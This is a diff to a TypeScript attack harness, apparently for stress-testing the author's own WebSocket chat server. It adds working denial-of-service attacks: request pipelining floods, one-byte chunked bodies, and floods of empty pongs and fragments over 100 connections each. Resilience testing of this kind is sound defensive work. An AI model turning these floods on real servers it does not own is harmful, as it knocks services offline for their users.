@@ -1,6 +1,14 @@
 import type { Socket } from "node:net";
 import { setTimeout as sleep } from "node:timers/promises";
-import { frameHeader, openConnection, openWebSocket, textFrame } from "./raw-client.ts";
+import {
+  EMPTY_FRAGMENT,
+  EMPTY_PONG,
+  FIRST_FRAGMENT,
+  frameHeader,
+  openConnection,
+  openWebSocket,
+  textFrame,
+} from "./raw-client.ts";
 
 /** What an attack knows of the server: its address, an account id from a public page, and a conversation of the attacker's own. */
 export interface AttackTarget {
@@ -132,6 +140,35 @@ const deafSockets =
       socket.destroy();
     });
 
+/** Sends `bytes` over and over, as fast as the server reads, and never reads an answer. */
+const sendWithoutEnd =
+  (connections: number, open: (url: URL, address: string) => Promise<Socket | undefined>, bytes: Buffer): Attack =>
+  (target, tally) =>
+    keepOpen(target, connections, tally, async (address, until) => {
+      const socket = await open(new URL(target.url), address);
+      if (!socket) return count(tally, "refused");
+      socket.pause();
+      while (performance.now() < until && !socket.destroyed) {
+        if (!socket.write(bytes)) await oneOf(socket, ["drain", "close"], until);
+      }
+      count(tally, socket.destroyed ? "closed by server" : "still open");
+      socket.destroy();
+    });
+
+const openChunkedBody = async (url: URL, address: string) => {
+  const socket = await openConnection(url, address);
+  socket.write("POST /api/ping HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n");
+  return socket;
+};
+
+const openWithFragments = async (url: URL, address: string) => {
+  const socket = await openWebSocket(url, address);
+  socket?.write(FIRST_FRAGMENT);
+  return socket;
+};
+
+const GET_PING = "GET /api/ping HTTP/1.1\r\nHost: localhost\r\n\r\n";
+
 const joinConversation = ({ conversationId, customerId }: AttackTarget) =>
   textFrame("1", "1", `conversation:${conversationId}`, "phx_join", { customer_id: customerId });
 
@@ -196,6 +233,28 @@ export const attacks: Record<string, Attack> = {
     const leave = textFrame(String(ref - 1), String(ref), topic, "phx_leave", {});
     return Buffer.concat([leave, textFrame(String(ref), String(ref), topic, "phx_join", { customer_id: customerId })]);
   }),
+  "100 connections that send 2,400 requests in one packet": sendWithoutEnd(
+    100,
+    openConnection,
+    Buffer.from(GET_PING.repeat(2_400)),
+  ),
+  "100 connections that ask as fast as they can": (target, tally) =>
+    keepOpen(target, 100, tally, async (address, until) => {
+      const socket = await openConnection(new URL(target.url), address);
+      while (performance.now() < until && !socket.destroyed) count(tally, await ask(socket, GET_PING, until));
+      socket.destroy();
+    }),
+  "100 bodies in chunks of one byte": sendWithoutEnd(100, openChunkedBody, Buffer.from("1\r\nx\r\n".repeat(10_000))),
+  "100 sockets that send pongs": sendWithoutEnd(
+    100,
+    openWebSocket,
+    Buffer.concat(Array.from({ length: 10_000 }, () => EMPTY_PONG)),
+  ),
+  "100 sockets that send empty fragments": sendWithoutEnd(
+    100,
+    openWithFragments,
+    Buffer.concat(Array.from({ length: 10_000 }, () => EMPTY_FRAGMENT)),
+  ),
   "sockets opened and closed": (target, tally) =>
     keepOpen(target, 50, tally, async (address) => {
       const socket = await openWebSocket(new URL(target.url), address);
